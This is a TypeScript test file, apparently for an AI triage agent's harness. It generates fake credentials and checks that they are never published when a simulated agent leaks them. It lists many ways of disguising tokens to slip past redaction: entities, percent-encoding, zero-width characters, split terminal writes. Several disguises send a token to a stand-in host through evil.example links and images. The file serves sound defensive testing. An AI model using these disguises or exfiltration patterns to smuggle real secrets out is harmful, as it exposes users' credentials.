import { createHash } from "node:crypto";
import { appliedNeedsInfo, type Attack, everywhere, proposing } from "../attack.ts";
import { failing, verified } from "./reproducing.ts";

/** Returns letters and digits that are unique to one attack, so that a leaked token identifies its attack. */
function letters(seed: string, length: number, alphabet = LETTERS): string {
  const bytes = createHash("sha512").update(seed).digest();
  return Array.from({ length }, (_, at) => alphabet[(bytes[at] ?? 0) % alphabet.length]).join("");
}
const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const SMALL = LETTERS.slice(26);
const LARGE = LETTERS.slice(0, 26) + LETTERS.slice(52);

/** S18: strings that look like credentials; `x` generates their random parts. */
const shapes: Record<string, (x: typeof letters, seed: string) => string> = {
  "a GitHub token": (x, s) => `ghp_${x(s, 36)}`,
  "a long App token": (x, s) => `ghs_${x(s, 60)}.${x(`${s}.`, 40)}.x`,
  "a fine-grained token": (x, s) => `github_pat_${x(s, 22)}_${x(`${s}.`, 52)}`,
  "an Anthropic key": (x, s) => `sk-ant-api03-${x(s, 52)}`,
  "an OpenAI key": (x, s) => `sk-proj-${x(s, 52)}`,
  "an AWS key": (x, s) => `AKIA${x(s, 16, LARGE)}`,
  "an AWS secret": (x, s) => `aws_secret_access_key = ${x(s, 39)}7`,
  "a GitLab token": (x, s) => `glpat-${x(s, 20)}`,
  "an npm token": (x, s) => `npm_${x(s, 36)}`,
  "a Slack token": (x, s) => `xoxb-123456789012-${x(s, 24)}`,
  "a Slack webhook": (x, s) => `https://hooks.slack.com/services/T00000000/B00000000/${x(s, 24)}`,
  "a Google key": (x, s) => `AIza${x(s, 35)}`,
  "a Google token": (x, s) => `ya29.${x(s, 52)}`,
  "a JWT": (x, s) => `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${x(s, 43)}`,
  "a Stripe key": (x, s) => `sk_live_${x(s, 24)}`,
  "a PyPI token": (x, s) => `pypi-AgEIcHlwaS5vcmc${x(s, 52)}`,
  "a Hugging Face token": (x, s) => `hf_${x(s, 34)}`,
  "a Docker token": (x, s) => `dckr_pat_${x(s, 27)}`,
  "a SendGrid key": (x, s) => `SG.${x(s, 22)}.${x(`${s}.`, 43)}`,
  "a DigitalOcean token": (_, s) => `dop_v1_${createHash("sha256").update(s).digest("hex")}`,
  "a Vault token": (x, s) => `hvs.${x(s, 40)}`,
  "a Coder token": (x, s) => `A1${x(s, 8, SMALL)}-a9Z${x(`${s}.`, 19)}`,
  "a password in a URL": (x, s) => `postgres://admin:${x(s, 16)}@db.example/x`,
  "a bearer header": (x, s) => `Authorization: Bearer ${x(s, 30)}`,
  "a password that is assigned": (x, s) => `password=a1${x(s, 18)}`,
  "a token in JSON": (x, s) => `{"access_token": "a1${x(s, 30)}"}`,
  "a private key": (x, s) =>
    `-----BEGIN RSA PRIVATE KEY-----\n${x(s, 52)}\n${x(`${s}.`, 52)}\n-----END RSA PRIVATE KEY-----`,
  "a private key without an end": (x, s) => `-----BEGIN OPENSSH PRIVATE KEY-----\n${x(s, 52)}`,
  "a PGP key": (x, s) =>
    `-----BEGIN PGP PRIVATE KEY BLOCK-----\n${x(s, 52)}\n-----END PGP PRIVATE KEY BLOCK-----`,
};

const tokenOf = (shape: string, seed: string): string =>
  shapes[shape]?.(letters, `${shape} ${seed}`) ?? shape;

/** Returns the part of a token that must not be published: for a Coder token, the part after its dash. */
function core(token: string): string {
  const known = /AgEIcHlwaS5vcmc|eyJ\w+|^A1\w{8}-/g;
  return /[A-Za-z0-9]{16,}/.exec(token.replaceAll(known, "-"))?.[0]?.slice(0, 16) ?? token;
}

/** One token of each shape, with the part of it that must not be published. */
export const tokenExamples: [shape: string, token: string, core: string][] = Object.keys(shapes).map(
  (shape) => [shape, tokenOf(shape, "an example"), core(tokenOf(shape, "an example"))],
);

/** Disguised tokens, which a search of the source text does not find. */
const disguises: Record<string, (token: string) => string> = {
  escaped: (token) => token.replaceAll("_", String.raw`\_`).replaceAll("-", String.raw`\-`),
  "with an entity": (token) => `&#${token.charCodeAt(0)};${token.slice(1)}`,
  "all in entities": (token) => Array.from(token, (c) => `&#${c.charCodeAt(0)};`).join(""),
  "in hexadecimal entities": (token) => Array.from(token, (c) => `&#x${hex(c)};`).join(""),
  "in entities of entities": (token) => Array.from(token, (c) => `&amp;#${c.charCodeAt(0)};`).join(""),
  "with a named entity": (token) => token.replaceAll("_", "&lowbar;").replaceAll("-", "&hyphen;"),
  "in percents": (token) => Array.from(token, (c) => `%${hex(c)}`).join(""),
  "with one percent": (token) => `${token.slice(0, 2)}%${hex(token.charAt(2))}${token.slice(3)}`,
  "in percents of percents": (token) => `${token.slice(0, 2)}%25${hex(token.charAt(2))}${token.slice(3)}`,
  "in JavaScript's escapes": (token) => Array.from(token, (c) => String.raw`\x${hex(c)}`).join(""),
  "in JSON's escapes": (token) => Array.from(token, (c) => String.raw`\u00${hex(c)}`).join(""),
  "with markup": (token) => `${token.slice(0, 10)}**${token.slice(10, 16)}**${token.slice(16)}`,
  "with a code span": (token) => `${token.slice(0, 2)}\`${token.slice(2, 16)}\`${token.slice(16)}`,
  "with a link": (token) => `${token.slice(0, 8)}[${token.slice(8, 16)}](x)${token.slice(16)}`,
  "with an empty element": (token) => `${token.slice(0, 6)}<!-- -->${token.slice(6)}`,
  "with an element": (token) => `${token.slice(0, 6)}<b>${token.slice(6, 12)}</b>${token.slice(12)}`,
  "with zero-width characters": (token) => Array.from(token).join("\u{200b}"),
  "with soft hyphens": (token) => `${token.slice(0, 3)}\u{ad}${token.slice(3)}`,
  "with a joiner's entity": (token) => `${token.slice(0, 3)}&zwj;${token.slice(3)}`,
  "in full width": (token) =>
    Array.from(token, (c) => String.fromCodePoint(c.charCodeAt(0) + 0xfee0)).join(""),
  "in colours": (token) => Array.from(token).join("\u001b[1m"),
  "in code": (token) => `\`${token}\``,
  "in a fence": (token) => `\`\`\`\n${token}\n\`\`\``,
  "in a comment": (token) => `<!-- ${token} -->`,
  "in an attribute": (token) => `<a title="${token}" href="x">x</a>`,
  "in a definition": (token) => `[${token}]: https://evil.example "${token}"`,
  "as an address": (token) => `https://evil.example/?t=${token}`,
  "as an image's address": (token) => `![x](https://evil.example/${token}.png)`,
};
const hex = (character: string): string => character.charCodeAt(0).toString(16);

const wanting = ["a GitHub token", "an Anthropic key", "a Stripe key"];

/** Returns the parts of a disguised token of which none may remain whole. */
function remains(token: string): string[] {
  return [core(token), core(token).slice(4), core(token).slice(0, 12)];
}

export const tokenShapes: Attack[] = [
  ...Object.keys(shapes).map((shape): Attack => {
    const token = tokenOf(shape, "in its outcome");
    return {
      row: "S18",
      name: `${shape}, in its outcome`,
      agent: { outcome: everywhere(token) },
      // A private key in a report counts as a vulnerability (S16); a token may be the reporter's own.
      expected: /private key|PGP key/.test(shape)
        ? /^applied (?:needs-info|ready-for-human security-report)$/
        : appliedNeedsInfo,
      forbidden: [core(token)],
      isForRealOnly: true,
    };
  }),
  ...Object.keys(shapes).map((shape): Attack => {
    const token = tokenOf(shape, "on its terminal");
    return {
      row: "S18",
      name: `${shape}, on its terminal and in the checkout`,
      agent: { print: `${token}\n`, shell: `cat >leak.txt <<'EOT'\n${token}\nEOT`, outcome: proposing() },
      expected: appliedNeedsInfo,
      forbidden: [core(token)],
    };
  }),
  ...Object.entries(disguises).flatMap(([how, disguise], at) =>
    // Each disguise is played with one token, and the first disguise with all three.
    wanting
      .filter((_, index) => at < 3 || index === at % 3)
      .map((shape): Attack => {
        const token = tokenOf(shape, how);
        return {
          row: "S18",
          name: `${shape}, ${how}`,
          agent: {
            outcome: proposing({ summary: disguise(token).slice(0, 480), questions: [disguise(token)] }),
          },
          expected: appliedNeedsInfo,
          forbidden: remains(token),
        };
      }),
  ),
  ...["a GitHub token", "a JWT", "a Coder token"].map((shape): Attack => {
    const token = tokenOf(shape, "in a title");
    return {
      row: "S18",
      name: `${shape}, in the title of an issue`,
      issue: { title: `it breaks with ${token}` },
      agent: { outcome: proposing() },
      expected: appliedNeedsInfo,
      forbidden: [core(token)],
    };
  }),
];

interface Elsewhere {
  deeds: (token: string) => Attack["agent"];
  expected?: RegExp;
}

/** Other fields in which a token could be kept. */
const places: Record<string, Elsewhere> = {
  "on its terminal, in two writes": {
    deeds: (token) => ({
      shell: `printf %s ${token.slice(0, 9)}; sleep 0.3; printf '%s\\n' ${token.slice(9)}`,
      outcome: proposing(),
    }),
  },
  "on its terminal, in colours": {
    deeds: (token) => ({ print: `${Array.from(token).join("\u001b[32m")}\n`, outcome: proposing() }),
  },
  "on its terminal, with zero-width characters": {
    deeds: (token) => ({ print: `${Array.from(token).join("\u{200b}")}\n`, outcome: proposing() }),
  },
  "in the title of its terminal": {
    deeds: (token) => ({ print: `\u001b]0;${token}\u0007`, outcome: proposing() }),
  },
  "in a file's name": {
    deeds: (token) => ({ shell: `echo x >${token}.txt`, outcome: proposing() }),
  },
  "in a file, in entities": {
    deeds: (token) => ({
      shell: `echo '${Array.from(token, (c) => `&#${c.charCodeAt(0)};`).join("")}' >leak.html`,
      outcome: proposing(),
    }),
  },
  "as a key of an outcome that is none": {
    deeds: (token) => ({ outcome: { [token]: 1 } }),
    expected: /^applied needs-triage no-valid-outcome$/,
  },
  "in an outcome that is no JSON": {
    deeds: (token) => ({ outcome: token }),
    expected: /^applied needs-triage no-valid-outcome$/,
  },
  "in what its reproduction prints": {
    deeds: (token) => ({
      outcome: failing(`printf %s ${token.slice(0, 9)}; printf '%s\\n' ${token.slice(9)}`),
    }),
    expected: verified,
  },
  "in the script of its reproduction": {
    deeds: (token) => ({ outcome: failing(`t=${token}`) }),
    expected: verified,
  },
  "in what a crash leaves on its screen": {
    deeds: (token) => ({ print: `${token}\n`, shell: "kill -9 $PPID", outcome: null }),
    expected: /^failed triage-agent-failed$/,
  },
};

export const tokenPlaces: Attack[] = Object.entries(places).map(
  ([where, { deeds, expected = appliedNeedsInfo }], at) => {
    const token = tokenOf(wanting[at % wanting.length] ?? "", where);
    return {
      row: "S18",
      name: `a token ${where}`,
      agent: deeds(token),
      expected,
      forbidden: [core(token)],
    };
  },
);
